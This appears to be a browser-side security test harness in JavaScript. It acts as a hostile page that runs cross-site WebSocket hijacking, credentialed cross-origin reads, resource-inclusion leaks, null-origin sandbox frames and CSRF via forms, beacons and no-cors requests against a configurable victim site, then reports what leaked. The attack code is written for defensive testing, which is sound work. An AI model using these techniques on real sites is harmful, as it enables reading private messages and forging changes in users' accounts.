// What a hostile page can do with another site's addresses, one way after another. Runs in the browser; each attack tells
// what it learned, '' for nothing. Ways that tell nobody (forms, beacons) are judged at the victim.

const SOON = 4_000

function within(promise) {
  return Promise.race([promise, new Promise((resolve) => setTimeout(resolve, SOON, ''))])
}

function element(name, properties) {
  return new Promise((resolve) => {
    const made = Object.assign(document.createElement(name), properties)
    made.onload = () => resolve(made)
    made.onerror = () => resolve(null)
    document.body.append(made)
  })
}

async function fetched(path, init) {
  try {
    const response = await fetch(victim + path, { credentials: 'include', ...init })
    return `${response.type === 'opaque' ? '' : await response.text()}`
  } catch {
    return ''
  }
}

/** Opens, introduces itself, and asks for what is in Ann's inbox. */
const SOCKET = `(url, protocols) => new Promise((resolve) => {
  const socket = new WebSocket(url, protocols)
  let learned = ''
  socket.onerror = socket.onclose = () => resolve(learned)
  const say = (command) => socket.send(JSON.stringify(command))
  let open = 2
  socket.onopen = () => {
    learned = 'open '
    say({ id: 1, op: 'connect', client: 'the-attacker', features: [] })
  }
  socket.onmessage = ({ data }) => {
    learned += data
    const { id, ok, ev } = JSON.parse(data)
    if (id === 1 && ok) {
      say({ id: 2, op: 'history', ch: 'inbox:ann', limit: 10 })
      say({ id: 3, op: 'publish', ch: 'hall', key: 'evil', since: ok.time, lane: 0, data: 'evil was here' })
    }
    if (ev === 'bye' || (id > 1 && --open === 0)) socket.close()
  }
})`

/** The same in this page. */
const opened = Function(`return ${SOCKET}`)()

const socketUrl = () => `${victim.replace(/^http/, 'ws')}/realtime`

function post(enctype, target) {
  const form = Object.assign(document.createElement('form'), {
    method: 'post',
    action: `${victim}${changes}`,
    enctype,
    target,
  })
  form.append(Object.assign(document.createElement('input'), { name: 'to', value: 'evil' }))
  document.body.append(form)
  form.submit()
}

async function framed(enctype) {
  const frame = Object.assign(document.createElement('iframe'), { name: `frame-${Math.random()}` })
  document.body.append(frame)
  const loaded = new Promise((resolve) => {
    frame.onload = resolve
  })
  post(enctype, frame.name)
  await loaded
  return ''
}

/** A frame that is nobody: its origin is null. */
function nobody(code) {
  return new Promise((resolve) => {
    addEventListener('message', ({ data }) => resolve(String(data)), { once: true })
    const frame = document.createElement('iframe')
    frame.sandbox = 'allow-scripts allow-forms'
    frame.srcdoc = `<script>(${code}).then((learned) => parent.postMessage(learned, '*'))</${'script'}>`
    document.body.append(frame)
  })
}

let victim = ''
let changes = ''

const attacks = {
  WebSocket: () => opened(socketUrl(), ['tautline.v1.json']),
  'WebSocket without a subprotocol': () => opened(socketUrl(), []),
  'WebSocket of a worker': () =>
    new Promise((resolve) => {
      const code = `(${SOCKET})('${socketUrl()}', ['tautline.v1.json']).then((learned) => postMessage(learned))`
      const worker = new Worker(URL.createObjectURL(new Blob([code], { type: 'text/javascript' })))
      worker.onmessage = ({ data }) => resolve(data)
    }),
  'WebSocket of a sandboxed frame': () => nobody(`(${SOCKET})('${socketUrl()}', ['tautline.v1.json'])`),
  fetch: () => fetched('/me'),
  'fetch, no-cors': () => fetched('/me', { mode: 'no-cors' }),
  'fetch of a sandboxed frame': () =>
    nobody(`fetch('${victim}/me', { credentials: 'include' }).then((response) => response.text()).catch(() => '')`),
  XMLHttpRequest: () =>
    new Promise((resolve) => {
      const request = new XMLHttpRequest()
      request.open('GET', `${victim}/me`)
      request.withCredentials = true
      request.onload = () => resolve(request.responseText)
      request.onerror = () => resolve('')
      request.send()
    }),
  EventSource: () =>
    new Promise((resolve) => {
      const source = new EventSource(`${victim}/events`, { withCredentials: true })
      const end = (learned) => {
        source.close()
        resolve(learned)
      }
      source.onmessage = ({ data }) => end(data)
      source.onerror = () => end('')
    }),
  script: async () => {
    globalThis.learned = ''
    await element('script', { src: `${victim}/secret.js` })
    return globalThis.learned
  },
  'style sheet': async () => {
    await element('link', { rel: 'stylesheet', href: `${victim}/secret.css` })
    return getComputedStyle(document.documentElement).getPropertyValue('--learned')
  },
  image: async () => {
    const image = await element('img', { src: `${victim}/secret.svg` })
    return image === null ? '' : `S3CRET ${image.naturalWidth}`
  },
  'image that changes something': async () => {
    await element('img', { src: `${victim}${changes}?to=evil` })
    return ''
  },
  frame: async () => {
    const frame = await element('iframe', { src: `${victim}/me` })
    try {
      return frame.contentDocument?.body.innerText ?? ''
    } catch {
      return ''
    }
  },
  'form, urlencoded': () => framed('application/x-www-form-urlencoded'),
  'form, text/plain': () => framed('text/plain'),
  'form, multipart': () => framed('multipart/form-data'),
  'form in a new window': async () => {
    post('text/plain', '_blank')
    return ''
  },
  beacon: async () => {
    navigator.sendBeacon(victim + changes, new Blob(['{"to":"evil"}'], { type: 'text/plain' }))
    return ''
  },
  'POST, no-cors text/plain': () => fetched(changes, { method: 'POST', mode: 'no-cors', body: '{"to":"evil"}' }),
  'POST of JSON': () =>
    fetched(changes, { method: 'POST', body: '{"to":"evil"}', headers: { 'content-type': 'application/json' } }),
  'POST with an authorization': () =>
    fetched(changes, { method: 'POST', headers: { authorization: 'Bearer guessed', 'idempotency-key': '1' } }),
  PUT: () => fetched(changes, { method: 'PUT', body: '{"to":"evil"}' }),
  DELETE: () => fetched(changes, { method: 'DELETE' }),
}

globalThis.attack = async (name, target, path) => {
  victim = target
  changes = path
  const learned = await within(attacks[name]())
  return String(learned)
}
globalThis.attackNames = Object.keys(attacks)

/** Every way to ask for a path, with the right key where a page can add one; what was learned, by way and path. */
globalThis.askAll = async (target, paths, key, body) => {
  victim = target
  const withKey = { authorization: `Bearer ${key}` }
  const json = { 'content-type': 'application/json' }
  const form = new FormData()
  form.append('channel', 'chat:1')
  const ways = {
    GET: {},
    'GET with the key': { headers: withKey },
    'GET, no-cors': { mode: 'no-cors' },
    'POST of JSON with the key': { method: 'POST', headers: { ...withKey, ...json }, body },
    'POST of JSON': { method: 'POST', headers: json, body },
    'POST, text/plain': { method: 'POST', body },
    'POST, text/plain, no-cors': { method: 'POST', mode: 'no-cors', body },
    'POST, urlencoded': { method: 'POST', body: new URLSearchParams({ channel: 'chat:1', data: 'evil' }) },
    'POST, multipart': { method: 'POST', body: form },
    'POST of a body without type': { method: 'POST', mode: 'no-cors', body: new Blob([body]) },
  }
  const learned = {}
  const askFor = async (path) => {
    for (const [way, init] of Object.entries(ways)) {
      const text = await within(fetched(path, init))
      if (text !== '') learned[`${way} ${path}`] = text
    }
    await within(element('script', { src: victim + path }))
    const image = await within(element('img', { src: victim + path }))
    if (image) learned[`image ${path}`] = 'loaded'
  }
  await Promise.all(paths.map(askFor))
  return learned
}
